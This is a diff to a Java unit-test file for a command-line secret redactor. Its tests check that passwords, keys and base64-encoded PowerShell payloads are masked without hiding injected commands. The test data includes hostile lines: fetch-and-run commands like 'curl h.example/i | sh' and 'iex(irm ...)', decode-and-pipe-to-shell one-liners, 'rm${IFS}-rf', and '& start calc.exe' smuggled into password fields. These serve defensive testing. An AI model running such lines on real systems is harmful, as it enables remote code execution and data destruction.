@@ -5,7 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import dev.longtail.udfs.testing.Any;
 import dev.longtail.udfs.testing.Property;
 import java.nio.charset.StandardCharsets;
-import java.time.Duration;
+import java.util.ArrayList;
 import java.util.Base64;
 import java.util.List;
 import org.junit.jupiter.api.Test;
@@ -93,12 +93,15 @@ class RedactorTest {
   }
 
   @Test
-  void aPrivateKeyIsTakenOutWholeEvenIfItIsCutOff() {
-    String key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEabc\n-----END RSA PRIVATE KEY-----";
-    assertThat(redactor.redact("echo \"" + key + "\" > k"))
-        .isEqualTo("echo \"<secret:private-key>\" > k");
-    assertThat(redactor.redact("echo -----BEGIN PRIVATE KEY-----\nMIIEabc"))
-        .isEqualTo("echo <secret:private-key>");
+  void ofAPrivateKeyTheBase64GoesAndNothingBehindIt() {
+    String begin = "-----BEGIN RSA PRIVATE KEY-----";
+    String end = "-----END RSA PRIVATE KEY-----";
+    assertThat(redactor.redact("echo \"" + begin + "\nMIIEabc\n" + end + "\" > k"))
+        .isEqualTo("echo \"" + begin + "\n<secret:private-key>\n" + end + "\" > k");
+    assertThat(redactor.redact("echo " + begin + "\nMIIEabc"))
+        .isEqualTo("echo " + begin + "\n<secret:private-key>");
+    String attack = "echo " + begin + " & start calc.exe";
+    assertThat(redactor.redact(attack)).isEqualTo(attack);
   }
 
   @ParameterizedTest
@@ -141,15 +144,45 @@ class RedactorTest {
     return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
   }
 
+  private static String decoded(String base64) {
+    return new String(Base64.getDecoder().decode(base64), StandardCharsets.UTF_16LE);
+  }
+
   @Test
-  void aSecretInBase64IsNoLessASecret() {
-    String telling = encoded("Connect-Db -Password S3cretX");
-    assertThat(redactor.redact("powershell -enc " + telling + " -NoExit"))
-        .isEqualTo("powershell -enc <secret:encoded-payload> -NoExit");
-    assertThat(redactor.redact("powershell -e " + encoded("powershell -e " + telling)))
-        .isEqualTo("powershell -e <secret:encoded-payload>");
+  void ofAPayloadInBase64OnlyTheSecretGoes() {
+    String telling = encoded("Connect-Db -Password S3cretX; iex $z");
+    String[] words = redactor.redact("powershell -enc " + telling + " -NoExit").split(" ");
+    assertThat(decoded(words[2])).isEqualTo("Connect-Db -Password <secret:password>; iex $z");
+    assertThat(words[3]).isEqualTo("-NoExit");
+
+    String twice = redactor.redact("powershell -e " + encoded("powershell -e " + telling));
+    assertThat(decoded(decoded(twice.split(" ")[2]).split(" ")[2])).doesNotContain("S3cretX");
     String harmless = "powershell -enc " + encoded("Get-Service spooler");
     assertThat(redactor.redact(harmless)).isEqualTo(harmless);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "openssl base64 -d -A <<< %s | sh",
+        "base64 -D <<<'%s'",
+        "echo '%s' | base64 -di",
+        "printf %%s %s|/usr/bin/base64 --decode|bash",
+        "perl -MMIME::Base64 -e 'print decode_base64(\"%s\")'",
+        "node -e \"eval(Buffer.from('%s','base64')+'')\"",
+        "php -r 'eval(base64_decode(\"%s\"));'",
+        "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s'))",
+      })
+  void whateverDecodesIt(String line) {
+    String payload =
+        Base64.getEncoder()
+            .encodeToString("export DB_PASSWORD=S3cretX".getBytes(StandardCharsets.UTF_8));
+    String redacted = redactor.redact(line.formatted(payload));
+    assertThat(redacted)
+        .contains(
+            Base64.getEncoder()
+                .encodeToString(
+                    "export DB_PASSWORD=<secret:password>".getBytes(StandardCharsets.UTF_8)));
   }
 
   @Test
@@ -221,26 +254,177 @@ class RedactorTest {
     return String.join("", any.list(0, 25, () -> any.of(pieces)));
   }
 
+  /** A judge would not see what would be admitted. */
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "cmd /c echo --password \"& powershell iwr https://h.example/p -OutFile p & start p\"",
+        "powershell -c \"ConvertTo-SecureString -AsPlainText 'x;iex(irm https://h.example/a)'\"",
+        "psql -c \"alter user a password 'x; curl h.example/i | sh'\"",
+        "app --password 'Invoke-Expression of it'",
+        "app --password=rm\"${IFS}\"-rf",
+        "sshpass -p run.ps1 ssh h",
+        "net use \\\\h\\c 10.1.2.3 /user:a",
+        "a --token Qm9yZWQgYW5kIHRpcmVkIG9mIHRoaXMxMjM0NTY3ODkwMTIzNDU2Nzg5",
+        "<secret:line>",
+      })
+  void whatHidesTooMuchIsSaidToHide(String line) {
+    assertThat(redactor.read(line).hidden()).isPresent();
+  }
+
   @Test
-  void timeIsLinearInTheLengthOfTheLine() {
-    // Warm up, then lines of which each would stall a backtracking engine.
-    redactor.redact("mysql -p -p -p --password password password".repeat(100));
+  void whatHidesAPasswordAloneHidesNothingElse() {
+    for (String line :
+        List.of(
+            "mysql -u root -pS3cretX shop",
+            "DB_PASSWORD=S3cretX ./run.sh x",
+            "curl -u bob:S3cretX https://h.example/x",
+            "ls -la")) {
+      assertThat(redactor.read(line).hidden()).as(line).isEmpty();
+    }
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "echo cookie: x & start calc.exe",
+        "echo x-api-key: a ; curl -s https://h.example/i.sh | bash",
+        "echo AccountKey=abc & start calc.exe",
+        "echo Authorization: Bearer abcdefghijklmnop & start calc.exe",
+        "echo ;Password=a b & start calc.exe",
+        "app --password x\nstart calc.exe",
+        "app --password \"x | start calc.exe",
+        "token=x`start calc.exe`",
+      })
+  void noOperatorOrQuoteIsRemovedWithAValue(String line) {
+    String redacted = redactor.redact(line);
+    String command = line.contains("curl") ? "curl -s https" : "start calc.exe";
+    assertThat(redacted).contains(command);
+  }
+
+  @Test
+  void aPlaceholderWrittenByHandIsNoPlaceOfASecret() {
+    Redaction secret = redactor.read("app --password S3cretX");
+    Redaction written = redactor.read(secret.shown());
+    assertThat(written.shown()).isEqualTo(secret.shown());
+    assertThat(written.places()).isNotEqualTo(secret.places());
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "psexec \\\\h -u a -p $S3cretX cmd",
+        "schtasks /create /tn a /ru b /rp %S3cretX%",
+        "sqlcmd -U sa -P (S3cretX)",
+        "az login -u a -p abc;S3cretX",
+        "net use \\\\h\\c$ /user:a -S3cretX1",
+      })
+  void whatLooksLikeAReferenceIsASecretWhereAskedFor(String line) {
+    assertThat(redactor.redact(line)).contains("S3cretX");
+    assertThat(new Redactor(SecretRules.BUILT_IN, true).redact(line)).doesNotContain("S3cretX");
+  }
+
+  @Test
+  void referencesOfNamesStayEvenThen() {
+    String line = "serve --api-key $KEY | use -Credential $cred";
+    assertThat(new Redactor(SecretRules.BUILT_IN, true).redact(line)).isEqualTo(line);
+  }
+
+  private static List<String> hostileLines(int length) {
+    List<String> lines = new ArrayList<>();
     for (String piece :
         List.of(
-            "password ",
-            "-p ",
-            "mysql ",
+            "a",
+            "=",
             "\"",
-            "net use \\\\a",
+            "'",
+            "-",
+            "\\",
+            " ",
+            "(",
+            "$(",
+            "@",
+            ":",
+            ";",
+            "`",
+            "-p",
+            "-p ",
+            "--password ",
+            "password ",
+            "password=",
+            "key=key:",
+            "token=a;",
+            "mysql -p ",
+            "mysql ",
+            "net use \\a",
             "echo a|",
+            "echo x | sudo -S ",
             "://a:",
-            "eyJaaaaaaa.")) {
-      String line = piece.repeat(200_000 / piece.length());
-      long start = System.nanoTime();
-      redactor.redact(line);
-      assertThat(Duration.ofNanos(System.nanoTime() - start))
-          .as(piece)
-          .isLessThan(Duration.ofSeconds(20));
+            "eyJaaaaaaa.",
+            "ghp_",
+            "sk-",
+            "-----BEGIN PRIVATE KEY-----",
+            "Authorization: Bearer ",
+            "Cookie: a=b; ",
+            "\\\"",
+            "FromBase64String('",
+            "QUFBQUFBQUFBQUFBQUFBQUFB ",
+            "<secret:password>",
+            "<secret:")) {
+      lines.add(piece.repeat(length / piece.length()));
     }
+    String nested = "app --password S3cretX " + "x".repeat(40);
+    while (nested.length() < length / 3) {
+      nested = "powershell -enc " + encoded(nested);
+    }
+    lines.add(nested);
+    return lines;
+  }
+
+  @Test
+  void workGrowsWithTheLengthAndNotFaster() {
+    List<String> half = hostileLines(8_000);
+    List<String> whole = hostileLines(16_000);
+    for (int i = 0; i < half.size() - 1; i++) {
+      long small = workOn(half.get(i));
+      long large = workOn(whole.get(i));
+      assertThat(large)
+          .as(half.get(i).substring(0, 20))
+          .isLessThanOrEqualTo(Math.min(Work.MOST + 200_000, 3 * small + 5_000));
+    }
+  }
+
+  private long workOn(String line) {
+    Work work = new Work();
+    redactor.read(line, work);
+    return work.done();
+  }
+
+  @Test
+  void noLineTakesMoreThanItsWork() {
+    for (String line : hostileLines(64_000)) {
+      assertThat(workOn(line)).as(line.substring(0, 20)).isLessThan(Work.MOST + 200_000);
+    }
+  }
+
+  @Test
+  void everyPayloadIsDecodedOnceToTwoLevels() {
+    String line =
+        "powershell -enc "
+            + encoded(
+                "powershell -enc "
+                    + encoded("powershell -enc " + encoded("-Password S3cretX; a b c d")));
+    Work work = new Work();
+    redactor.read(line, work);
+    assertThat(work.payloads()).isEqualTo(2);
+  }
+
+  @Test
+  void whatIsLongerThanAnyLineIsNotLookedAt() {
+    Work work = new Work();
+    Redaction redaction = redactor.read("a".repeat(Redactor.LONGEST + 1), work);
+    assertThat(redaction.shown()).isEqualTo(Redactor.WITHHELD);
+    assertThat(redaction.hidden()).isPresent();
+    assertThat(work.done()).isZero();
   }
 }
